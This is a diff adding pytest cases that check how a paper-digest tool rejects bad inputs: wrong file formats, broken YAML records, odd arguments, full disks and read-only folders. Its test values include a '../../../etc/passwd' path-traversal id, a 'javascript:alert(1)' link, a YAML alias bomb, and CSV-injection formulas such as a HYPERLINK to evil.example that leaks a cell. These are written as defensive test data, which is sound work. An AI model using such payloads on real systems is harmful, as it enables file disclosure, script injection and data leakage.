@@ -2,13 +2,27 @@
 
 from __future__ import annotations
 
+import csv
+import hashlib
+import os
+import resource
+import shutil
+import signal
+import subprocess
+import sys
+from contextlib import contextmanager
+from dataclasses import dataclass
+from pathlib import Path
+
 import pytest
 import yaml
 
+from digest.check import check_store
 from digest.cli import main
 from digest.ingest import ingest
+from digest.records.store import load_papers, paper_path
 
-from .conftest import dump, snapshot
+from .conftest import DATA, REPO, dump, mkdocs_build, snapshot
 
 ABSTRACT = "We present Alpha, a system that serves large models on one GPU with less memory. " * 5
 
@@ -105,3 +119,300 @@ def test_broken_record_is_reported_and_ingest_refuses(store, capsys, old, new, f
     err = capsys.readouterr().err
     assert "fix them first" in err and expected in err
     assert snapshot(store) == before
+
+
+# ------------------------------------------------------------------------------------------------
+# The corpus of issue 14: one file in tests/fixtures/bad/ per case (or, for what no file can be,
+# a FIFO or a missing folder, a case built on disk). Each gets its exact one-line message and exit
+# code, from every command that reads it, and leaves the store byte for byte as it was.
+
+BAD = Path(__file__).parent / "fixtures" / "bad"
+EXPECTED_FORMATS = ("expected hf-daily-text (a text dump of a Hugging Face Daily Papers listing page: titles, "
+                    "abstracts, optional metadata)")
+RECORD_COMMANDS = (["check"], ["pages", "--out", "{out}"])
+
+
+@dataclass
+class Case:
+    file: str  # in tests/fixtures/bad, or a name for a case built on disk
+    place: str  # "dump", "record", "taxonomy", "hardware", or how a file-less case is made
+    message: str  # the exact line ({file}: where the case lies in the store or on disk)
+    code: int = 1
+    commands: tuple[list[str], ...] = (["ingest", "--listing-year", "2025", "{file}"],)
+
+
+CASES = [
+    # Junk from the wrong file: refused at the door, nothing written.
+    Case("hf-api-daily-papers.json", "dump", f"{{file}}: looks like JSON, which no input format of the digest reads; "
+         f"{EXPECTED_FORMATS}"),
+    Case("arxiv-listing.atom", "dump", "{file}: looks like an Atom feed (XML), which no input format of the digest "
+         f"reads; {EXPECTED_FORMATS}"),
+    Case("daily-papers-page.html", "dump", "{file}: looks like HTML, which no input format of the digest reads; "
+         f"{EXPECTED_FORMATS}"),
+    Case("record-as-dump.yaml", "dump", "{file}: looks like YAML, which no input format of the digest reads; "
+         f"{EXPECTED_FORMATS}"),
+    Case("mostly-junk.txt", "dump", "{file}:5: 6 of 7 blocks are not paper entries (the first: title 'column 0, "
+         "value 0, another value' has no abstract: skipped); this is not a Hugging Face Daily Papers dump, or a "
+         "badly broken one, so none of it is ingested"),
+    Case("nul-past-64k.txt", "dump", "{file}:723: binary data (a NUL byte): expected a UTF-8 text dump; delete the "
+         "NUL bytes (tr -d '\\000') if the rest is text"),
+    Case("named-pipe", "fifo", "{file}: is a named pipe (FIFO), not a regular file; save the dump to a file and "
+         "ingest that"),
+    # Odd arguments: usage errors.
+    Case("no-such-store", "missing store", "{file}: no such folder; --data names a store (a folder holding papers/, "
+         "sources/, taxonomy.yaml and hardware.yaml). To start a new one: mkdir -p {file}", 2,
+         (["ingest", "--data", "{file}", str(BAD / "odd-file-name.txt")], ["check", "--data", "{file}"])),
+    Case("year-99999", "argument", "digest ingest: error: argument --listing-year: 99999 is not a listing year; give "
+         "one from 1990 to 2100", 2, (["ingest", "--listing-year", "99999", str(BAD / "odd-file-name.txt")],)),
+    Case("year-minus-5", "argument", "digest ingest: error: argument --listing-year: -5 is not a listing year; give "
+         "one from 1990 to 2100", 2, (["ingest", "--listing-year=-5", str(BAD / "odd-file-name.txt")],)),
+    # Records a careless hand writes: check, the build and ingest all name the file, line and field.
+    *[Case(name, "record", message, 1, RECORD_COMMANDS) for name, message in [
+        ("control-character.yaml", "{file}:2: holds the control character U+0007, which YAML does not allow; "
+         "delete it"),
+        ("control-character-escaped.yaml", "{file}:2: title: holds the control character U+009B at position 7; "
+         "delete it"),
+        ("upvotes-5000-digits.yaml", "{file}:3: upvotes: a number of 5,000 digits is not a count; check the value"),
+        ("title-nested-1000.yaml", "{file}:2: title: expected text, got a list"),
+        ("overrides-hardware-number.yaml", "{file}:3: overrides.hardware[0]: expected text, got a whole number "
+         "'4090' (quote it: '4090')"),
+        ("overrides-system-empty.yaml", "{file}:3: overrides.system: is empty"),
+        ("overrides-gpu-count-null.yaml", "{file}:3: overrides.gpu_count[0]: expected text, got nothing (null)"),
+        ("topics-twice.yaml", "{file}:4: topics: duplicate key: YAML keeps only the last one; keep one and delete "
+         "the other"),
+        ("link-javascript.yaml", "{file}:3: links[0]: 'javascript:alert(1)' is not an http(s) address; links must "
+         "start with https:// or http://"),
+        ("alias-bomb.yaml", "{file}:2: YAML anchors and aliases (&name, *name) are not allowed here; write the "
+         "value out in full"),
+        ("invalid-yaml.yaml", "{file}:3: YAML syntax error: did not find expected ',' or ']'"),
+        ("wrong-type.yaml", "{file}:3: upvotes: expected a whole number, got a list"),
+        ("unknown-field.yaml", "{file}:3: colour: unknown field; known fields are: id, title, abstract, published, "
+         "authors_count, organization, upvotes, links, topics, tags, notes, overrides, abstract_truncated, sources"),
+        ("missing-title.yaml", "{file}:1: title: missing; every entry needs id, title and abstract"),
+        ("unknown-topic.yaml", "{file}:3: topics: unknown topic 'quantum'; topics are: hardware, kernels, offloading, "
+         "other, parallelism, serving"),
+        ("id-path-traversal.yaml", "{file}:1: id: '../../../etc/passwd' is not a slug (lowercase letters, digits "
+         "and single hyphens)"),
+        ("id-of-another-record.yaml", "{file}:1: id: 'galore' does not match the file name "
+         "'id-of-another-record.yaml'; an id never changes, so rename neither"),
+    ]],
+    Case("record-is-a-folder.yaml", "folder record", "{file}: is a directory, not a record", 1, RECORD_COMMANDS),
+    Case("record-is-a-dangling-link.yaml", "dangling record", "{file}: no such record", 1, RECORD_COMMANDS),
+    Case("taxonomy-broken.yaml", "taxonomy", "{file}:5: YAML syntax error: did not find expected ',' or ']'", 1,
+         RECORD_COMMANDS),
+    Case("hardware-broken.yaml", "hardware", "{file}:1: hardware[0].class: missing; every entry needs name, aliases, "
+         "vendor and class", 1, RECORD_COMMANDS),
+]
+
+
+def small_store(folder: Path) -> Path:
+    """Seven real records with the dumps they cite, and the repo's taxonomy and catalogue."""
+    data = folder / "data"
+    shutil.copytree(Path(__file__).parent / "fixtures" / "store", data)
+    for name in ("taxonomy.yaml", "hardware.yaml", "sources"):
+        (shutil.copytree if name == "sources" else shutil.copy)(DATA / name, data / name)
+    return data
+
+
+def place(case: Case, store: Path, tmp_path: Path) -> Path:
+    """Put the case where it does its harm; return the path its message names."""
+    source = BAD / case.file
+    targets = {"record": store / "papers" / case.file, "taxonomy": store / "taxonomy.yaml",
+               "hardware": store / "hardware.yaml"}
+    if case.place in targets:
+        shutil.copy(source, targets[case.place])
+        return targets[case.place]
+    path = {"folder record": store / "papers" / case.file, "dangling record": store / "papers" / case.file,
+            "dump": source}.get(case.place, tmp_path / case.file)
+    if case.place == "fifo":
+        os.mkfifo(path)
+    elif case.place == "folder record":
+        path.mkdir()
+    elif case.place == "dangling record":
+        path.symlink_to(tmp_path / "gone.yaml")
+    return path
+
+
+def run_digest(args: list[str], capsys) -> tuple[int, list[str]]:
+    """`digest ARGS`, in this process (an exception would fail the test): exit code and output lines."""
+    try:
+        code = main(args)
+    except SystemExit as exited:  # argparse's usage errors
+        code = int(exited.code or 0)
+    out = capsys.readouterr()
+    return code, (out.out + out.err).splitlines()
+
+
+@pytest.mark.parametrize("case", CASES, ids=[case.file for case in CASES])
+def test_every_bad_input_gets_its_one_line_and_changes_nothing(case, tmp_path, capsys):
+    store = small_store(tmp_path)
+    path = place(case, store, tmp_path)
+    before = tree_hash(store)
+    for command in case.commands:
+        args = [arg.format(file=path, out=tmp_path / "pages") for arg in command]
+        if "--data" not in args:
+            args[1:1] = ["--data", str(store)]
+        code, lines = run_digest(args, capsys)
+        shown = printed(case, command[0]).format(file=path)
+        assert (code, shown) == (case.code, next((line for line in lines if line == shown), lines)), args
+        assert tree_hash(store) == before, args
+    assert not (tmp_path / "no-such-store").exists()  # a missing store is never made
+
+
+def printed(case: Case, command: str) -> str:
+    """The line a user sees: `check` lists each problem as it is, a command that stops says
+    `error: ` first, and argparse prints its own usage error."""
+    if case.place == "argument" or (command == "check" and case.code == 1):
+        return case.message
+    return f"error: {case.message}"
+
+
+def tree_hash(folder: Path) -> str:
+    """One sha256 over every path and byte under `folder` (links and folders by name)."""
+    digest = hashlib.sha256()
+    for path in sorted(folder.rglob("*")):
+        digest.update(str(path.relative_to(folder)).encode("utf-8", "surrogateescape"))
+        if path.is_file() and not path.is_symlink():
+            digest.update(path.read_bytes())
+    return digest.hexdigest()
+
+
+# ------------------------------------------------------------------------------------------------
+# The cases of the issue that now work: nothing lost, nothing written that check refuses.
+
+def ingest_fixture(store: Path, *names: str, capsys) -> tuple[int, str]:
+    code, lines = run_digest(["ingest", "--data", str(store), "--listing-year", "2025",
+                              *(str(BAD / name) for name in names)], capsys)
+    return code, "\n".join(lines)
+
+
+def test_titles_without_letters_are_named_by_their_abstracts(store, capsys):
+    code, out = ingest_fixture(store, "titles-without-letters.txt", capsys=capsys)
+    papers = {paper.id: paper for paper in load_papers(store)}
+    assert code == 0 and sorted(papers) == ["we-present-alpha-a-system-that-serves-large",
+                                            "we-study-speculative-decoding-for-serving-language-models"]
+    assert [papers[pid].title for pid in sorted(papers)] == ["?!?!...", "---***---"]
+    assert "titles-without-letters.txt:9: title '🚀🚀🚀' has no abstract: skipped" in out
+    assert "2 new, 0 updated, 0 unchanged, 2 skipped" in out
+    assert check_store(store) == []
+    # Seen again, each is the same paper: matched on its abstract.
+    assert ingest_fixture(store, "titles-without-letters.txt", capsys=capsys)[0] == 0
+    assert len(load_papers(store)) == 2
+
+
+def test_a_cut_off_abstract_is_marked_and_the_whole_text_replaces_it(store, capsys):
+    code, out = ingest_fixture(store, "cut-off-dump.txt", capsys=capsys)
+    assert code == 0 and ("note: " + str(BAD / "cut-off-dump.txt") + ":7: the file ends inside the abstract of "
+                          "'Beta: Training': kept, marked as cut off; a later dump with the whole text replaces it") in out
+    beta = yaml.safe_load(paper_path(store, "beta").read_text())
+    assert beta["abstract_truncated"] is True and beta["abstract"].endswith("https://github.com/beta")
+    assert beta["links"] == []  # half an address is no link
+    assert check_store(store) == []
+    assert ingest_fixture(store, "cut-off-dump-complete.txt", capsys=capsys)[0] == 0
+    beta = yaml.safe_load(paper_path(store, "beta").read_text())
+    assert "abstract_truncated" not in beta and beta["abstract"].endswith("and runs on 8 GPUs.")
+    assert beta["links"] == ["https://github.com/beta-org/beta-train"] and len(beta["sources"]) == 2
+    # The shorter text never wins back, whatever the order.
+    assert ingest_fixture(store, "cut-off-dump.txt", capsys=capsys)[0] == 0
+    assert yaml.safe_load(paper_path(store, "beta").read_text())["abstract"] == beta["abstract"]
+
+
+def test_a_dump_whose_name_is_not_utf8_is_kept_under_a_name_that_reads_back(tmp_path, store, capsys):
+    odd = Path(os.fsdecode(bytes(tmp_path) + b"/odd\xffname \x01.txt"))
+    shutil.copy(BAD / "odd-file-name.txt", odd)
+    code, out = run_digest(["ingest", "--data", str(store), str(odd)], capsys)
+    assert code == 0 and "1 new, 0 updated" in "\n".join(out)
+    assert [path.name for path in (store / "sources").iterdir()] == ["odd_name_.txt"]
+    assert load_papers(store)[0].sources[0].file == "sources/odd_name_.txt"
+    assert check_store(store) == []
+    assert run_digest(["ingest", "--data", str(store), str(odd)], capsys)[0] == 0  # and again: the same store
+
+
+def test_a_dump_whose_dates_are_all_malformed_is_ingested_with_its_dates_left_empty(store, capsys):
+    code, out = ingest_fixture(store, "dates-all-malformed.txt", capsys=capsys)
+    assert code == 0 and "2 new, 0 updated, 0 unchanged, 0 skipped" in out
+    assert f"note: {BAD / 'dates-all-malformed.txt'}:9: no such date 'Feb 31': date left empty" in out
+    assert [paper.published for paper in load_papers(store)] == [None, None]
+    assert check_store(store) == []
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path, capsys):
+    store = small_store(tmp_path)
+    shutil.copy(BAD / "csv-injection.yaml", store / "papers")
+    assert run_digest(["check", "--data", str(store)], capsys)[0] == 0
+    assert run_digest(["pages", "--data", str(store), "--out", str(tmp_path / "out")], capsys)[0] == 0
+    rows = {row["id"]: row for row in csv.DictReader((tmp_path / "out" / "papers.csv").open(encoding="utf-8"))}
+    row = rows["csv-injection"]
+    assert row["title"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    assert (row["system"], row["headline"]) == ("'@SUM(1+1)", "'-2+3")
+    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows.values() for value in row.values())
+
+
+def test_a_read_only_papers_folder_changes_nothing(store, capsys):
+    assert ingest_fixture(store, "odd-file-name.txt", capsys=capsys)[0] == 0
+    before = tree_hash(store)
+    with read_only(store / "papers"):
+        code, out = ingest_fixture(store, "cut-off-dump-complete.txt", capsys=capsys)
+    reason = "Operation not permitted" if os.geteuid() == 0 else "Permission denied"  # chattr +i, or mode 555
+    assert code == 1 and out.endswith(f"error: {store / 'papers'}: cannot write here ({reason}); nothing was "
+                                      "written: make the folder writable and run the command again")
+    assert tree_hash(store) == before  # the dump copy did not go into sources/ either
+    assert ingest_fixture(store, "cut-off-dump-complete.txt", capsys=capsys)[0] == 0  # writable again: it works
+
+
+@contextmanager
+def read_only(folder: Path):
+    """A folder no one may write into: immutable for root (who ignores permissions), else mode 555."""
+    root = os.geteuid() == 0
+    if root and shutil.which("chattr") is None:
+        pytest.skip("running as root without chattr: no way to make a folder read-only")
+    subprocess.run(["chattr", "+i", str(folder)], check=True) if root else folder.chmod(0o555)
+    try:
+        yield
+    finally:
+        subprocess.run(["chattr", "-i", str(folder)], check=True) if root else folder.chmod(0o755)
+
+
+@pytest.mark.parametrize("command, message", [
+    (["ingest", "--listing-year", "2025", "{dump}"], "{store}: cannot stage sources/{dump.name} (File too large); "
+     "nothing was written"),
+    (["pages", "--out", "{out}"], "{out}: cannot write the pages (File too large); what is there is incomplete: "
+     "free the space or pick another --out, and run it again"),
+], ids=["ingest", "pages"])
+def test_a_full_disk_gives_a_message_and_no_partial_write(tmp_path, command, message):
+    """The disk fills up while writing: the process may write no byte past 2 KiB per file
+    (RLIMIT_FSIZE, as a full disk refuses the write), and says so in one line."""
+    store = small_store(tmp_path)
+    before = tree_hash(store)
+    new_dump = tmp_path / "new.txt"  # a dump the store does not keep yet, larger than 2 KiB
+    new_dump.write_text("".join(f"Paper {i}: Serving\n\n{ABSTRACT}\n\n" for i in range(8)), encoding="utf-8")
+    args = [arg.format(dump=new_dump, out=tmp_path / "out") for arg in command]
+
+    def small_files():
+        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a failed write, not a killed process
+        resource.setrlimit(resource.RLIMIT_FSIZE, (2048, 2048))
+
+    result = subprocess.run([sys.executable, "-m", "digest.cli", args[0], "--data", str(store), *args[1:]],
+                            capture_output=True, text=True, preexec_fn=small_files, check=False, timeout=120)
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    names = {"store": store, "dump": new_dump, "out": tmp_path / "out"}
+    assert result.stderr.strip().splitlines()[-1] == "error: " + message.format(**names)
+    assert tree_hash(store) == before
+    assert not list(store.glob(".staging-*"))
+
+
+@pytest.mark.build
+@pytest.mark.parametrize("name", ["unknown-topic.yaml", "alias-bomb.yaml", "taxonomy-broken.yaml",
+                                  "hardware-broken.yaml"])
+def test_mkdocs_build_stops_with_the_line_check_prints(tmp_path, name):
+    """The gen-files script, run by a real `mkdocs build`: check's line, exit 1, no traceback."""
+    case = next(case for case in CASES if case.file == name)
+    store = small_store(tmp_path)
+    path = place(case, store, tmp_path)
+    before = tree_hash(store)
+    result = mkdocs_build(REPO / "mkdocs.yml", tmp_path / "site", {"DIGEST_DATA": str(store)})
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    lines = result.stderr.splitlines()
+    assert f"ERROR   -  {case.message.format(file=path)} (`digest check` lists every problem)" in lines, lines
+    assert result.stdout.strip() == "Aborted with a BuildError!"
+    assert tree_hash(store) == before
